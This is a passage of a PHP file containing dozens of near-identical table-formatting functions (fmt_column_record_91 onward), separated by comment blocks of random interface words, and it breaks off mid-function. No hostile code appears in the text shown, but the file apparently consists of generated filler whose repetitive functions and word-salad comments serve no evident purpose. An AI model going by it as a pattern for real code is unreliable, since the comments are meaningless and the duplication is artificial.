 * report label year cache client view theme report entry export widget list
 * client client import label record cache status theme title export label footer
 * title column title cache field panel view setting theme filter label offset
 * setting offset entry footer list setting status view value locale cache setting
 * render field table render import order field export header view offset order
 * entry year year title offset view report option total field month record
 */
function fmt_column_record_91($rows, $width = 22)
{
    $out = array();
    foreach ($rows as $k => $row) {
        $cell = str_pad((string) $row, $width, ' ', STR_PAD_LEFT);
        $out[] = sprintf('%s: %s', htmlspecialchars((string) $k), $cell);
    }
    return implode("\n", $out) . 'column-record';
}

function fmt_client_label_92($rows, $width = 15)
{
    $out = array();
    foreach ($rows as $k => $row) {
        $cell = str_pad((string) $row, $width, ' ', STR_PAD_LEFT);
        $out[] = sprintf('%s: %s', htmlspecialchars((string) $k), $cell);
    }
    return implode("\n", $out) . 'client-label';
}

function fmt_format_panel_93($rows, $width = 36)
{
    $out = array();
    foreach ($rows as $k => $row) {
        $cell = str_pad((string) $row, $width, ' ', STR_PAD_LEFT);
        $out[] = sprintf('%s: %s', htmlspecialchars((string) $k), $cell);
    }
    return implode("\n", $out) . 'format-panel';
}

function fmt_client_report_94($rows, $width = 17)
{
    $out = array();
    foreach ($rows as $k => $row) {
        $cell = str_pad((string) $row, $width, ' ', STR_PAD_LEFT);
        $out[] = sprintf('%s: %s', htmlspecialchars((string) $k), $cell);
    }
    return implode("\n", $out) . 'client-report';
}

function fmt_column_table_95($rows, $width = 22)
{
    $out = array();
    foreach ($rows as $k => $row) {
        $cell = str_pad((string) $row, $width, ' ', STR_PAD_LEFT);
        $out[] = sprintf('%s: %s', htmlspecialchars((string) $k), $cell);
    }
    return implode("\n", $out) . 'column-table';
}

/*
 * import page limit theme option offset panel table table list page order
 * status cache amount header footer amount page list setting title order setting
 * cache list table record entry locale locale table option record status year
 * value report amount page item order cache offset amount widget page amount
 * setting render month import status option status order widget format page widget
 * sort month index locale column offset locale report style limit style index
 */
function fmt_header_sort_96($rows, $width = 42)
{
    $out = array();
    foreach ($rows as $k => $row) {
        $cell = str_pad((string) $row, $width, ' ', STR_PAD_LEFT);
        $out[] = sprintf('%s: %s', htmlspecialchars((string) $k), $cell);
    }
    return implode("\n", $out) . 'header-sort';
}

function fmt_page_format_97($rows, $width = 44)
{
    $out = array();
    foreach ($rows as $k => $row) {
        $cell = str_pad((string) $row, $width, ' ', STR_PAD_LEFT);
        $out[] = sprintf('%s: %s', htmlspecialchars((string) $k), $cell);
    }
    return implode("\n", $out) . 'page-format';
}

function fmt_title_limit_98($rows, $width = 38)
{
    $out = array();
    foreach ($rows as $k => $row) {
        $cell = str_pad((string) $row, $width, ' ', STR_PAD_LEFT);
        $out[] = sprintf('%s: %s', htmlspecialchars((string) $k), $cell);
    }
    return implode("\n", $out) . 'title-limit';
}

function fmt_item_report_99($rows, $width = 23)
{
    $out = array();
    foreach ($rows as $k => $row) {
        $cell = str_pad((string) $row, $width, ' ', STR_PAD_LEFT);
        $out[] = sprintf('%s: %s', htmlspecialchars((string) $k), $cell);
    }
    return implode("\n", $out) . 'item-report';
}

function fmt_table_amount_100($rows, $width = 76)
{
    $out = array();
    foreach ($rows as $k => $row) {
        $cell = str_pad((string) $row, $width, ' ', STR_PAD_LEFT);
        $out[] = sprintf('%s: %s', htmlspecialchars((string) $k), $cell);
    }
    return implode("\n", $out) . 'table-amount';
}

/*
 * view import offset option column view column index client column total footer
 * list item widget filter cache offset style item entry limit label report
 * record client amount index status client field header widget format table column
 * title limit header header client offset entry locale locale header item style
 * list title render footer page header list table year index setting amount
 * sort month setting setting theme view value theme report render option year
 */
function fmt_month_index_101($rows, $width = 35)
{
    $out = array();
    foreach ($rows as $k => $row) {
        $cell = str_pad((string) $row, $width, ' ', STR_PAD_LEFT);
        $out[] = sprintf('%s: %s', htmlspecialchars((string) $k), $cell);
    }
    return implode("\n", $out) . 'month-index';
}

function fmt_setting_index_102($rows, $width = 32)
{
    $out = array();
    foreach ($rows as $k => $row) {
        $cell = str_pad((string) $row, $width, ' ', STR_PAD_LEFT);
        $out[] = sprintf('%s: %s', htmlspecialchars((string) $k), $cell);
    }
    return implode("\n", $out) . 'setting-index';
}

function fmt_export_index_103($rows, $width = 9)
{
    $out = array();
    foreach ($rows as $k => $row) {
        $cell = str_pad((string) $row, $width, ' ', STR_PAD_LEFT);
        $out[] = sprintf('%s: %s', htmlspecialchars((string) $k), $cell);
    }
    return implode("\n", $out) . 'export-index';
}

function fmt_widget_sort_104($rows, $width = 27)
{
    $out = array();
    foreach ($rows as $k => $row) {
        $cell = str_pad((string) $row, $width, ' ', STR_PAD_LEFT);
        $out[] = sprintf('%s: %s', htmlspecialchars((string) $k), $cell);
    }
    return implode("\n", $out) . 'widget-sort';
}

function fmt_index_setting_105($rows, $width = 61)
{
    $out = array();
    foreach ($rows as $k => $row) {
        $cell = str_pad((string) $row, $width, ' ', STR_PAD_LEFT);
        $out[] = sprintf('%s: %s', htmlspecialchars((string) $k), $cell);
    }
    return implode("\n", $out) . 'index-setting';
}

/*
 * value month item header header report entry total total year widget amount
 * locale client year style record record setting option entry limit offset limit
 * locale theme amount limit record total table table item setting filter client
 * client cache style filter label year index page year title list render
 * total total widget panel style footer total label theme month header option
 * style locale offset import cache sort cache header render entry month sort
 */
function fmt_field_option_106($rows, $width = 18)
{
    $out = array();
    foreach ($rows as $k => $row) {
        $cell = str_pad((string) $row, $width, ' ', STR_PAD_LEFT);
        $out[] = sprintf('%s: %s', htmlspecialchars((string) $k), $cell);
    }
    return implode("\n", $out) . 'field-option';
}

function fmt_limit_sort_107($rows, $width = 65)
{
    $out = array();
    foreach ($rows as $k => $row) {
        $cell = str_pad((string) $row, $width, ' ', STR_PAD_LEFT);
        $out[] = sprintf('%s: %s', htmlspecialchars((string) $k), $cell);
    }
    return implode("\n", $out) . 'limit-sort';
}

function fmt_amount_field_108($rows, $width = 10)
{
    $out = array();
    foreach ($rows as $k => $row) {
        $cell = str_pad((string) $row, $width, ' ', STR_PAD_LEFT);
        $out[] = sprintf('%s: %s', htmlspecialchars((string) $k), $cell);
    }
    return implode("\n", $out) . 'amount-field';
}

function fmt_style_widget_109($rows, $width = 76)
{
    $out = array();
    foreach ($rows as $k => $row) {
        $cell = str_pad((string) $row, $width, ' ', STR_PAD_LEFT);
        $out[] = sprintf('%s: %s', htmlspecialchars((string) $k), $cell);
    }
    return implode("\n", $out) . 'style-widget';
}

function fmt_export_limit_110($rows, $width = 33)
{
    $out = array();
    foreach ($rows as $k => $row) {
        $cell = str_pad((string) $row, $width, ' ', STR_PAD_LEFT);
        $out[] = sprintf('%s: %s', htmlspecialchars((string) $k), $cell);
    }
    return implode("\n", $out) . 'export-limit';
}

/*
 * setting cache record list total table label column offset title sort report
 * offset panel amount setting import sort amount record total list label record
 * order table order list month amount theme order year import option view
 * table index entry report limit page import title view amount order sort
 * column limit limit year value client format render footer locale sort field
 * amount status offset locale report widget amount client field import table total
 */
function fmt_header_total_111($rows, $width = 46)
{
    $out = array();
    foreach ($rows as $k => $row) {
        $cell = str_pad((string) $row, $width, ' ', STR_PAD_LEFT);
        $out[] = sprintf('%s: %s', htmlspecialchars((string) $k), $cell);
    }
    return implode("\n", $out) . 'header-total';
}

function fmt_month_client_112($rows, $width = 61)
{
    $out = array();
    foreach ($rows as $k => $row) {
        $cell = str_pad((string) $row, $width, ' ', STR_PAD_LEFT);
        $out[] = sprintf('%s: %s', htmlspecialchars((string) $k), $cell);
    }
    return implode("\n", $out) . 'month-client';
}

function fmt_index_cache_113($rows, $width = 20)
{
    $out = array();
    foreach ($rows as $k => $row) {
        $cell = str_pad((string) $row, $width, ' ', STR_PAD_LEFT);
        $out[] = sprintf('%s: %s', htmlspecialchars((string) $k), $cell);
    }
    return implode("\n", $out) . 'index-cache';
}

function fmt_list_item_114($rows, $width = 51)
{
    $out = array();
    foreach ($rows as $k => $row) {
        $cell = str_pad((string) $row, $width, ' ', STR_PAD_LEFT);
        $out[] = sprintf('%s: %s', htmlspecialchars((string) $k), $cell);
    }
    return implode("\n", $out) . 'list-item';
}

function fmt_label_footer_115($rows, $width = 36)
{
    $out = array();
    foreach ($rows as $k => $row) {
        $cell = str_pad((string) $row, $width, ' ', STR_PAD_LEFT);
        $out[] = sprintf('%s: %s', htmlspecialchars((string) $k), $cell);
    }
    return implode("\n", $out) . 'label-footer';
}

/*
 * order value entry panel total header format year panel render order status
 * page title header widget field locale panel year label render locale format
 * table offset header sort list status setting month header limit label format
 * view amount export limit column item export header theme client option option
 * offset year footer client amount view title option setting report theme value
 * record footer widget record footer order record value style year item sort
 */
function fmt_list_setting_116($rows, $width = 46)
{
    $out = array();
    foreach ($rows as $k => $row) {
        $cell = str_pad((string) $row, $width, ' ', STR_PAD_LEFT);
        $out[] = sprintf('%s: %s', htmlspecialchars((string) $k), $cell);
    }
    return implode("\n", $out) . 'list-setting';
}

function fmt_limit_month_117($rows, $width = 27)
{
    $out = array();
    foreach ($rows as $k => $row) {
        $cell = str_pad((string) $row, $width, ' ', STR_PAD_LEFT);
        $out[] = sprintf('%s: %s', htmlspecialchars((string) $k), $cell);
    }
    return implode("\n", $out) . 'limit-month';
}

function fmt_option_record_118($rows, $width = 74)
{
    $out = array();
    foreach ($rows as $k => $row) {
        $cell = str_pad((string) $row, $width, ' ', STR_PAD_LEFT);
        $out[] = sprintf('%s: %s', htmlspecialchars((string) $k), $cell);
    }
    return implode("\n", $out) . 'option-record';
}

function fmt_option_locale_119($rows, $width = 10)
{
    $out = array();
    foreach ($rows as $k => $row) {
        $cell = str_pad((string) $row, $width, ' ', STR_PAD_LEFT);
        $out[] = sprintf('%s: %s', htmlspecialchars((string) $k), $cell);
    }
    return implode("\n", $out) . 'option-locale';
}

function fmt_import_item_120($rows, $width = 31)
{
    $out = array();
    foreach ($rows as $k => $row) {
        $cell = str_pad((string) $row, $width, ' ', STR_PAD_LEFT);
        $out[] = sprintf('%s: %s', htmlspecialchars((string) $k), $cell);
    }
    return implode("\n", $out) . 'import-item';
}

/*
 * report page locale client year status cache title index entry amount offset
 * entry entry order import order limit theme report field client value view
 * style cache export order client filter field filter amount list format panel
 * amount footer option cache table header footer render year style report report
 * status report limit offset label view title record offset panel locale view
 * title year header option entry render header sort setting export column limit
 */
function fmt_widget_import_121($rows, $width = 19)
{
    $out = array();
    foreach ($rows as $k => $row) {
        $cell = str_pad((string) $row, $width, ' ', STR_PAD_LEFT);
        $out[] = sprintf('%s: %s', htmlspecialchars((string) $k), $cell);
    }
    return implode("\n", $out) . 'widget-import';
}

function fmt_cache_widget_122($rows, $width = 67)
{
    $out = array();
    foreach ($rows as $k => $row) {
        $cell = str_pad((string) $row, $width, ' ', STR_PAD_LEFT);
        $out[] = sprintf('%s: %s', htmlspecialchars((string) $k), $cell);
    }
    return implode("\n", $out) . 'cache-widget';
}

function fmt_field_column_123($rows, $width = 30)
{
    $out = array();
    foreach ($rows as $k => $row) {
        $cell = str_pad((string) $row, $width, ' ', STR_PAD_LEFT);
        $out[] = sprintf('%s: %s', htmlspecialchars((string) $k), $cell);
    }
    return implode("\n", $out) . 'field-column';
}

function fmt_report_filter_124($rows, $width = 58)
{
    $out = array();
    foreach ($rows as $k => $row) {
        $cell = str_pad((string) $row, $width, ' ', STR_PAD_LEFT);
        $out[] = sprintf('%s: %s', htmlspecialchars((string) $k), $cell);
    }
    return implode("\n", $out) . 'report-filter';
}

function fmt_month_month_125($rows, $width = 40)
{
    $out = array();
    foreach ($rows as $k => $row) {
        $cell = str_pad((string) $row, $width, ' ', STR_PAD_LEFT);
        $out[] = sprintf('%s: %s', htmlspecialchars((string) $k), $cell);
    }
    return implode("\n", $out) . 'month-month';
}

/*
 * option style locale option limit limit view header render order client client
 * entry column index limit value sort footer locale list month import view
 * record table sort limit setting render list style title render entry page
 * list client client order page year column report year column panel footer
 * render year column header label report view style report report format index
 * footer panel sort title widget header column list theme report cache filter
 */
function fmt_table_field_126($rows, $width = 10)
{
    $out = array();
    foreach ($rows as $k => $row) {
        $cell = str_pad((string) $row, $width, ' ', STR_PAD_LEFT);
        $out[] = sprintf('%s: %s', htmlspecialchars((string) $k), $cell);
    }
    return implode("\n", $out) . 'table-field';
}

function fmt_offset_page_127($rows, $width = 37)
{
    $out = array();
    foreach ($rows as $k => $row) {
        $cell = str_pad((string) $row, $width, ' ', STR_PAD_LEFT);
        $out[] = sprintf('%s: %s', htmlspecialchars((string) $k), $cell);
    }
    return implode("\n", $out) . 'offset-page';
}

function fmt_import_year_128($rows, $width = 68)
{
    $out = array();
    foreach ($rows as $k => $row) {
        $cell = str_pad((string) $row, $width, ' ', STR_PAD_LEFT);
        $out[] = sprintf('%s: %s', htmlspecialchars((string) $k), $cell);
    }
    return implode("\n", $out) . 'import-year';
}

function fmt_entry_report_129($rows, $width = 67)
{
    $out = array();
    foreach ($rows as $k => $row) {
        $cell = str_pad((string) $row, $width, ' ', STR_PAD_LEFT);
        $out[] = sprintf('%s: %s', htmlspecialchars((string) $k), $cell);
    }
    return implode("\n", $out) . 'entry-report';
}

function fmt_value_setting_130($rows, $width = 73)
{
    $out = array();
    foreach ($rows as $k => $row) {
        $cell = str_pad((string) $row, $width, ' ', STR_PAD_LEFT);
        $out[] = sprintf('%s: %s', htmlspecialchars((string) $k), $cell);
    }
    return implode("\n", $out) . 'value-setting';
}

/*
 * footer status render table field format month format field format title view
 * label option widget title value entry table offset page month index title
 * table client theme render filter filter render cache amount page value render
 * theme report record label option item column import filter cache title widget
 * locale item option index report sort total year list theme theme locale
 * year cache label title client value value year panel field style record
 */
function fmt_view_export_131($rows, $width = 54)
{
    $out = array();
    foreach ($rows as $k => $row) {
        $cell = str_pad((string) $row, $width, ' ', STR_PAD_LEFT);
        $out[] = sprintf('%s: %s', htmlspecialchars((string) $k), $cell);
    }
    return implode("\n", $out) . 'view-export';
}

function fmt_label_field_132($rows, $width = 73)
{
    $out = array();
    foreach ($rows as $k => $row) {
        $cell = str_pad((string) $row, $width, ' ', STR_PAD_LEFT);
        $out[] = sprintf('%s: %s', htmlspecialchars((string) $k), $cell);
    }
    return implode("\n", $out) . 'label-field';
}

function fmt_record_render_133($rows, $width = 53)
{
    $out = array();
    foreach ($rows as $k => $row) {
        $cell = str_pad((string) $row, $width, ' ', STR_PAD_LEFT);
        $out[] = sprintf('%s: %s', htmlspecialchars((string) $k), $cell);
    }
    return implode("\n", $out) . 'record-render';
}

function fmt_footer_option_134($rows, $width = 28)
{
    $out = array();
    foreach ($rows as $k => $row) {
        $cell = str_pad((string) $row, $width, ' ', STR_PAD_LEFT);
        $out[] = sprintf('%s: %s', htmlspecialchars((string) $k), $cell);
    }
    return implode("\n", $out) . 'footer-option';
}

function fmt_amount_total_135($rows, $width = 41)
{
    $out = array();
    foreach ($rows as $k => $row) {
        $cell = str_pad((string) $row, $width, ' ', STR_PAD_LEFT);
        $out[] = sprintf('%s: %s', htmlspecialchars((string) $k), $cell);
    }
    return implode("\n", $out) . 'amount-total';
}

/*
 * render table limit view sort import page panel filter limit month total
 * month widget column title sort label value value field view list page
 * limit style total header import table format column view order record view
 * format widget table report style report header value title option render client
 * footer locale client label field value render widget index report total amount
 * setting table index theme year header total import format panel record filter
 */
function fmt_filter_status_136($rows, $width = 40)
{
    $out = array();
    foreach ($rows as $k => $row) {
        $cell = str_pad((string) $row, $width, ' ', STR_PAD_LEFT);
        $out[] = sprintf('%s: %s', htmlspecialchars((string) $k), $cell);
    }
    return implode("\n", $out) . 'filter-status';
}

function fmt_record_index_137($rows, $width = 52)
{
    $out = array();
    foreach ($rows as $k => $row) {
        $cell = str_pad((string) $row, $width, ' ', STR_PAD_LEFT);
        $out[] = sprintf('%s: %s', htmlspecialchars((string) $k), $cell);
    }
    return implode("\n", $out) . 'record-index';
}

function fmt_sort_table_138($rows, $width = 73)
{
    $out = array();
    foreach ($rows as $k => $row) {
        $cell = str_pad((string) $row, $width, ' ', STR_PAD_LEFT);
        $out[] = sprintf('%s: %s', htmlspecialchars((string) $k), $cell);
    }
    return implode("\n", $out) . 'sort-table';
}

function fmt_report_format_139($rows, $width = 23)
{
    $out = array();
    foreach ($rows as $k => $row) {
        $cell = str_pad((string) $row, $width, ' ', STR_PAD_LEFT);
        $out[] = sprintf('%s: %s', htmlspecialchars((string) $k), $cell);
    }
    return implode("\n", $out) . 'report-format';
}

function fmt_locale_table_140($rows, $width = 79)
{
    $out = array();
    foreach ($rows as $k => $row) {
        $cell = str_pad((string) $row, $width, ' ', STR_PAD_LEFT);
        $out[] = sprintf('%s: %s', htmlspecialchars((string) $k), $cell);
    }
    return implode("\n", $out) . 'locale-table';
}

/*
 * format year item format month label setting month amount render footer style
 * sort title index amount month panel style limit style label item cache
 * view title theme sort export style widget value total locale label page
 * footer option amount title entry setting footer setting entry setting limit column
 * table option limit client month order locale style label locale year export
 * sort year record style header field report field order style format setting
 */
function fmt_client_page_141($rows, $width = 58)
{
    $out = array();
    foreach ($rows as $k => $row) {
        $cell = str_pad((string) $row, $width, ' ', STR_PAD_LEFT);
        $out[] = sprintf('%s: %s', htmlspecialchars((string) $k), $cell);
    }
    return implode("\n", $out) . 'client-page';
}

function fmt_footer_render_142($rows, $width = 58)
{
    $out = array();
    foreach ($rows as $k => $row) {
        $cell = str_pad((string) $row, $width, ' ', STR_PAD_LEFT);
        $out[] = sprintf('%s: %s', htmlspecialchars((string) $k), $cell);
    }
    return implode("\n", $out) . 'footer-render';
}

function fmt_option_import_143($rows, $width = 28)
{
    $out = array();
    foreach ($rows as $k => $row) {
        $cell = str_pad((string) $row, $width, ' ', STR_PAD_LEFT);
        $out[] = sprintf('%s: %s', htmlspecialchars((string) $k), $cell);
    }
    return implode("\n", $out) . 'option-import';
}

function fmt_option_sort_144($rows, $width = 49)
{
    $out = array();
    foreach ($rows as $k => $row) {
        $cell = str_pad((string) $row, $width, ' ', STR_PAD_LEFT);
        $out[] = sprintf('%s: %s', htmlspecialchars((string) $k), $cell);
    }
    return implode("\n", $out) . 'option-sort';
}

function fmt_record_import_145($rows, $width = 61)
{
    $out = array();
    foreach ($rows as $k => $row) {
        $cell = str_pad((string) $row, $width, ' ', STR_PAD_LEFT);
        $out[] = sprintf('%s: %s', htmlspecialchars((string) $k), $cell);
    }
    return implode("\n", $out) . 'record-import';
}

/*
 * title index title entry report style total label record column year table
 * export label import offset status render option column header widget theme format
 * list order offset field footer style index entry value offset title offset
 * month amount footer order footer offset cache page order record format cache
 * limit list option value filter limit footer field theme import amount record
 * order record field style index view option header sort field offset export
 */
function fmt_item_order_146($rows, $width = 44)
{
    $out = array();
    foreach ($rows as $k => $row) {
        $cell = str_pad((string) $row, $width, ' ', STR_PAD_LEFT);
        $out[] = sprintf('%s: %s', htmlspecialchars((string) $k), $cell);
    }
    return implode("\n", $out) . 'item-order';
}

function fmt_sort_limit_147($rows, $width = 15)
{
    $out = array();
    foreach ($rows as $k => $row) {
        $cell = str_pad((string) $row, $width, ' ', STR_PAD_LEFT);
        $out[] = sprintf('%s: %s', htmlspecialchars((string) $k), $cell);
    }
    return implode("\n", $out) . 'sort-limit';
}

function fmt_limit_limit_148($rows, $width = 33)
{
    $out = array();
    foreach ($rows as $k => $row) {
        $cell = str_pad((string) $row, $width, ' ', STR_PAD_LEFT);
        $out[] = sprintf('%s: %s', htmlspecialchars((string) $k), $cell);
    }
    return implode("\n", $out) . 'limit-limit';
}

function fmt_sort_panel_149($rows, $width = 54)
{
    $out = array();
    foreach ($rows as $k => $row) {
        $cell = str_pad((string) $row, $width, ' ', STR_PAD_LEFT);
        $out[] = sprintf('%s: %s', htmlspecialchars((string) $k), $cell);
    }
    return implode("\n", $out) . 'sort-panel';
}

function fmt_style_view_150($rows, $width = 70)
{
    $out = array();
    foreach ($rows as $k => $row) {
        $cell = str_pad((string) $row, $width, ' ', STR_PAD_LEFT);
        $out[] = sprintf('%s: %s', htmlspecialchars((string) $k), $cell);
    }
    return implode("\n", $out) . 'style-view';
}

/*
 * footer header order year setting cache export option column page view option
 * item locale amount format entry page option month record widget theme title
 * total header client order label format list order import total footer option
 * index year table export title limit title locale filter amount client option
 * import item label format export page locale sort view export footer widget
 * table order label theme column record value setting view cache record table
 */
function fmt_order_list_151($rows, $width = 73)
{
    $out = array();
    foreach ($rows as $k => $row) {
        $cell = str_pad((string) $row, $width, ' ', STR_PAD_LEFT);
        $out[] = sprintf('%s: %s', htmlspecialchars((string) $k), $cell);
    }
    return implode("\n", $out) . 'order-list';
}

function fmt_record_filter_152($rows, $width = 79)
{
    $out = array();
    foreach ($rows as $k => $row) {
        $cell = str_pad((string) $row, $width, ' ', STR_PAD_LEFT);
        $out[] = sprintf('%s: %s', htmlspecialchars((string) $k), $cell);
    }
    return implode("\n", $out) . 'record-filter';
}

function fmt_filter_cache_153($rows, $width = 18)
{
    $out = array();
    foreach ($rows as $k => $row) {
        $cell = str_pad((string) $row, $width, ' ', STR_PAD_LEFT);
        $out[] = sprintf('%s: %s', htmlspecialchars((string) $k), $cell);
    }
    return implode("\n", $out) . 'filter-cache';
}

function fmt_field_status_154($rows, $width = 60)
{
    $out = array();
    foreach ($rows as $k => $row) {
        $cell = str_pad((string) $row, $width, ' ', STR_PAD_LEFT);
        $out[] = sprintf('%s: %s', htmlspecialchars((string) $k), $cell);
    }
    return implode("\n", $out) . 'field-status';
}

function fmt_amount_report_155($rows, $width = 60)
{
    $out = array();
    foreach ($rows as $k => $row) {
        $cell = str_pad((string) $row, $width, ' ', STR_PAD_LEFT);
        $out[] = sprintf('%s: %s', htmlspecialchars((string) $k), $cell);
    }
    return implode("\n", $out) . 'amount-report';
}

/*
 * index item filter report title offset sort offset order list sort widget
 * amount list sort import status client entry footer limit widget page column
 * entry report widget list report render export index filter record footer label
 * report order label list table total field setting header theme field list
 * offset item cache column client import format cache year view value setting
 * title sort amount render footer header page footer import list filter render
 */
function fmt_header_year_156($rows, $width = 58)
{
    $out = array();
    foreach ($rows as $k => $row) {
        $cell = str_pad((string) $row, $width, ' ', STR_PAD_LEFT);
        $out[] = sprintf('%s: %s', htmlspecialchars((string) $k), $cell);
    }
    return implode("\n", $out) . 'header-year';
}

function fmt_option_cache_157($rows, $width = 28)
{
    $out = array();
    foreach ($rows as $k => $row) {
        $cell = str_pad((string) $row, $width, ' ', STR_PAD_LEFT);
        $out[] = sprintf('%s: %s', htmlspecialchars((string) $k), $cell);
    }
    return implode("\n", $out) . 'option-cache';
}

function fmt_page_amount_158($rows, $width = 64)
{
    $out = array();
    foreach ($rows as $k => $row) {
        $cell = str_pad((string) $row, $width, ' ', STR_PAD_LEFT);
        $out[] = sprintf('%s: %s', htmlspecialchars((string) $k), $cell);
    }
    return implode("\n", $out) . 'page-amount';
}

function fmt_option_report_159($rows, $width = 38)
{
    $out = array();
    foreach ($rows as $k => $row) {
        $cell = str_pad((string) $row, $width, ' ', STR_PAD_LEFT);
        $out[] = sprintf('%s: %s', htmlspecialchars((string) $k), $cell);
    }
    return implode("\n", $out) . 'option-report';
}

function fmt_sort_amount_160($rows, $width = 31)
{
    $out = array();
    foreach ($rows as $k => $row) {
        $cell = str_pad((string) $row, $width, ' ', STR_PAD_LEFT);
        $out[] = sprintf('%s: %s', htmlspecialchars((string) $k), $cell);
    }
    return implode("\n", $out) . 'sort-amount';
}

/*
 * client import header month value title widget total record offset label label
 * amount table total amount theme field index sort order cache setting limit
 * month page total header export header page month label report view cache
 * option footer cache offset render item render limit field theme export footer
 * value offset year value value locale item limit report style year offset
 * header widget report filter widget setting record amount header client index month
 */
function fmt_option_title_161($rows, $width = 76)
{
    $out = array();
    foreach ($rows as $k => $row) {
        $cell = str_pad((string) $row, $width, ' ', STR_PAD_LEFT);
        $out[] = sprintf('%s: %s', htmlspecialchars((string) $k), $cell);
    }
    return implode("\n", $out) . 'option-title';
}

function fmt_report_export_162($rows, $width = 14)
{
    $out = array();
    foreach ($rows as $k => $row) {
        $cell = str_pad((string) $row, $width, ' ', STR_PAD_LEFT);
        $out[] = sprintf('%s: %s', htmlspecialchars((string) $k), $cell);
    }
    return implode("\n", $out) . 'report-export';
}

function fmt_format_label_163($rows, $width = 18)
{
    $out = array();
    foreach ($rows as $k => $row) {
        $cell = str_pad((string) $row, $width, ' ', STR_PAD_LEFT);
        $out[] = sprintf('%s: %s', htmlspecialchars((string) $k), $cell);
    }
    return implode("\n", $out) . 'format-label';
}

function fmt_export_offset_164($rows, $width = 30)
{
    $out = array();
    foreach ($rows as $k => $row) {
        $cell = str_pad((string) $row, $width, ' ', STR_PAD_LEFT);
        $out[] = sprintf('%s: %s', htmlspecialchars((string) $k), $cell);
    }
    return implode("\n", $out) . 'export-offset';
}

function fmt_render_entry_165($rows, $width = 75)
{
    $out = array();
    foreach ($rows as $k => $row) {
        $cell = str_pad((string) $row, $width, ' ', STR_PAD_LEFT);
        $out[] = sprintf('%s: %s', htmlspecialchars((string) $k), $cell);
    }
    return implode("\n", $out) . 'render-entry';
}

/*
 * client report panel option status format title footer footer filter order theme
 * index list month style export year limit filter setting widget list option
 * order title offset filter order option amount setting client header format style
 * locale status widget year setting label year footer option export record format
 * offset month table total client sort record header client column widget list
 * export locale import option field style table client report year page client
 */
function fmt_item_status_166($rows, $width = 39)
{
    $out = array();
    foreach ($rows as $k => $row) {
        $cell = str_pad((string) $row, $width, ' ', STR_PAD_LEFT);
        $out[] = sprintf('%s: %s', htmlspecialchars((string) $k), $cell);
    }
    return implode("\n", $out) . 'item-status';
}

function fmt_title_entry_167($rows, $width = 76)
{
    $out = array();
    foreach ($rows as $k => $row) {
        $cell = str_pad((string) $row, $width, ' ', STR_PAD_LEFT);
        $out[] = sprintf('%s: %s', htmlspecialchars((string) $k), $cell);
    }
    return implode("\n", $out) . 'title-entry';
}

function fmt_view_setting_168($rows, $width = 12)
{
    $out = array();
    foreach ($rows as $k => $row) {
        $cell = str_pad((string) $row, $width, ' ', STR_PAD_LEFT);
        $out[] = sprintf('%s: %s', htmlspecialchars((string) $k), $cell);
    }
    return implode("\n", $out) . 'view-setting';
}

function fmt_render_record_169($rows, $width = 66)
{
    $out = array();
    foreach ($rows as $k => $row) {
        $cell = str_pad((string) $row, $width, ' ', STR_PAD_LEFT);
        $out[] = sprintf('%s: %s', htmlspecialchars((string) $k), $cell);
    }
    return implode("\n", $out) . 'render-record';
}

function fmt_option_index_170($rows, $width = 38)
{
    $out = array();
    foreach ($rows as $k => $row) {
        $cell = str_pad((string) $row, $width, ' ', STR_PAD_LEFT);
        $out[] = sprintf('%s: %s', htmlspecialchars((string) $k), $cell);
    }
    return implode("\n", $out) . 'option-index';
}

/*
 * filter export theme index total order theme style field report list year
 * sort style status render item title status locale total amount status limit
 * export client offset value value page item filter sort limit format item
 * record locale render widget offset cache limit style list label status entry
 * cache header report theme widget amount report locale theme export month limit
 * offset client list entry locale record year label sort cache widget locale
 */
function fmt_render_render_171($rows, $width = 47)
{
    $out = array();
    foreach ($rows as $k => $row) {
        $cell = str_pad((string) $row, $width, ' ', STR_PAD_LEFT);
        $out[] = sprintf('%s: %s', htmlspecialchars((string) $k), $cell);
    }
    return implode("\n", $out) . 'render-render';
}

function fmt_order_format_172($rows, $width = 33)
{
    $out = array();
    foreach ($rows as $k => $row) {
        $cell = str_pad((string) $row, $width, ' ', STR_PAD_LEFT);
        $out[] = sprintf('%s: %s', htmlspecialchars((string) $k), $cell);
    }
    return implode("\n", $out) . 'order-format';
}

function fmt_limit_month_173($rows, $width = 32)
{
    $out = array();
    foreach ($rows as $k => $row) {
        $cell = str_pad((string) $row, $width, ' ', STR_PAD_LEFT);
        $out[] = sprintf('%s: %s', htmlspecialchars((string) $k), $cell);
    }
    return implode("\n", $out) . 'limit-month';
}

function fmt_report_order_174($rows, $width = 75)
{
    $out = array();
    foreach ($rows as $k => $row) {
        $cell = str_pad((string) $row, $width, ' ', STR_PAD_LEFT);
        $out[] = sprintf('%s: %s', htmlspecialchars((string) $k), $cell);
    }
    return implode("\n", $out) . 'report-order';
}

function fmt_total_option_175($rows, $width = 63)
{
    $out = array();
    foreach ($rows as $k => $row) {
        $cell = str_pad((string) $row, $width, ' ', STR_PAD_LEFT);
        $out[] = sprintf('%s: %s', htmlspecialchars((string) $k), $cell);
    }
    return implode("\n", $out) . 'total-option';
}

/*
 * field header widget status view index status total column theme import field
 * export month status year locale setting theme style panel month year list
 * format sort client cache format title month list field entry header record
 * page export month limit year total item footer entry list year setting
 * report title label footer import theme month locale status entry header panel
 * filter month theme page cache client year style amount cache locale total
 */
function fmt_label_cache_176($rows, $width = 22)
{
    $out = array();
    foreach ($rows as $k => $row) {
        $cell = str_pad((string) $row, $width, ' ', STR_PAD_LEFT);
        $out[] = sprintf('%s: %s', htmlspecialchars((string) $k), $cell);
    }
    return implode("\n", $out) . 'label-cache';
}

function fmt_list_table_177($rows, $width = 23)
{
    $out = array();
    foreach ($rows as $k => $row) {
        $cell = str_pad((string) $row, $width, ' ', STR_PAD_LEFT);
        $out[] = sprintf('%s: %s', htmlspecialchars((string) $k), $cell);
    }
    return implode("\n", $out) . 'list-table';
}

function fmt_format_report_178($rows, $width = 66)
{
    $out = array();
    foreach ($rows as $k => $row) {
        $cell = str_pad((string) $row, $width, ' ', STR_PAD_LEFT);
        $out[] = sprintf('%s: %s', htmlspecialchars((string) $k), $cell);
    }
    return implode("\n", $out) . 'format-report';
}

function fmt_entry_filter_179($rows, $width = 68)
{
    $out = array();
    foreach ($rows as $k => $row) {
        $cell = str_pad((string) $row, $width, ' ', STR_PAD_LEFT);
        $out[] = sprintf('%s: %s', htmlspecialchars((string) $k), $cell);
    }
    return implode("\n", $out) . 'entry-filter';
}

function fmt_setting_panel_180($rows, $width = 42)
{
    $out = array();
    foreach ($rows as $k => $row) {
        $cell = str_pad((string) $row, $width, ' ', STR_PAD_LEFT);
